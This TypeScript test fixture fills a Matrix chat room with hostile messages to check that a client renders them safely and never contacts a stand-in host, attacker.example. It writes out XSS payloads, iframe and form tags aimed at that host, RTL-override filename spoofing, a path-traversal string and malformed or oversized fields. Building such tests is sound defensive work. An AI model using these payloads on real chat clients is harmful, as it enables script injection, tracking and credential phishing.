// For: a room full of what somebody might send to break a client, or to make it talk to a server of theirs.
// Must not know how the app draws it.
import { ApiError } from '../../campus/client.ts'
import type { Campus } from '../../campus/index.ts'

/** The host that nothing may ever be asked of. */
export const HOSTILE_HOST = 'attacker.example'

const html = (body: string, formatted: string): Record<string, unknown> => ({ msgtype: 'm.text', body, format: 'org.matrix.custom.html', formatted_body: formatted })

/** Makes the room with petrova in it; its last message says `last of the hostile ones`. */
export async function fillHostileRoom(campus: Campus): Promise<{ id: string; name: string }> {
  const smith = await campus.login('smith')
  const petrova = await campus.login('petrova')
  const name = 'Hostile \u202etxet\u202c <img src=x onerror=owned=1> room'
  const id = await smith.createRoom({ name, preset: 'private_chat', invite: [petrova.userId] })
  await petrova.join(id)
  const deep = `${'<blockquote>'.repeat(300)}deep${'</blockquote>'.repeat(300)}`
  const messages: Record<string, unknown>[] = [
    html('script', '<script>globalThis.owned = 1</script><b>bold</b>'),
    html('handlers', `<img src="http://${HOSTILE_HOST}/x.png" onerror="globalThis.owned=1"><svg onload="globalThis.owned=1"><a href="javascript:globalThis.owned=1">click</a>`),
    html('frames', `<iframe src="http://${HOSTILE_HOST}/"></iframe><object data="http://${HOSTILE_HOST}/"></object><form action="http://${HOSTILE_HOST}/"><input name=password></form>`),
    html('styles', `<div style="position:fixed;inset:0;background:url(http://${HOSTILE_HOST}/s.png)">over everything</div><style>*{display:none}</style>`),
    html('deep', deep),
    html('maths', '<span data-mx-maths="\\href{javascript:globalThis.owned=1}{x} \\newcommand{\\a}{\\a\\a}\\a">x</span>'),
    { msgtype: 'm.text', body: `\u202eevil\u202c \u2067isolated ${'\u0301'.repeat(400)} ${'Z'.repeat(3000)}` },
    { msgtype: 'm.text', body: `https://${HOSTILE_HOST}/preview looks like a link` },
    { msgtype: 'm.image', body: '../../etc/passwd', url: `mxc://${HOSTILE_HOST}/../../admin`, info: { w: -1, h: 2 ** 52, mimetype: 'image/svg+xml', size: 'large' } },
    { msgtype: 'm.image', body: 'foreign', url: `http://${HOSTILE_HOST}/track.png`, info: { w: 100, h: 100 } },
    { msgtype: 'm.file', body: 'invoice.pdf\u202efdp.exe', url: 7, filename: { not: 'text' } },
    { msgtype: 'm.location', body: 'somewhere', geo_uri: `${'java'}script:globalThis.owned=1` },
    { msgtype: { not: 'text' }, body: ['nor', 'this'] },
    { msgtype: 'm.text', body: 'relates to nothing', 'm.relates_to': { rel_type: 'm.replace', event_id: 5 } },
    { msgtype: 'm.text', body: 'mentions nonsense', 'm.mentions': { user_ids: 'everybody', room: 'yes' } },
    {},
  ]
  let refused = 0
  const attempt = (sent: Promise<unknown>): Promise<unknown> =>
    sent.catch((error: unknown) => {
      // Synapse itself refuses the worst; other servers of the federation may not.
      if (!(error instanceof ApiError) || error.status !== 400) throw error
      refused += 1
    })
  for (const content of messages) await attempt(smith.send(id, content))
  if (refused > messages.length / 2) throw new Error('the server refuses nearly everything: nothing is tested')
  const target = await smith.send(id, 'a target')
  await attempt(smith.event(id, 'm.reaction', { 'm.relates_to': { rel_type: 'm.annotation', event_id: target, key: '<img src=x onerror=owned=1>' } }))
  await attempt(smith.event(id, 'm.reaction', { 'm.relates_to': 'nonsense' }))
  await attempt(smith.event(id, 'org.example.unheard', { constructor: 'x', toString: 7 }))
  await attempt(smith.state(id, 'm.room.topic', { topic: `<script>globalThis.owned=1</script> https://${HOSTILE_HOST}/` }))
  await attempt(smith.state(id, 'm.room.pinned_events', { pinned: 'everything' }))
  await smith.send(id, 'last of the hostile ones')
  return { id, name }
}
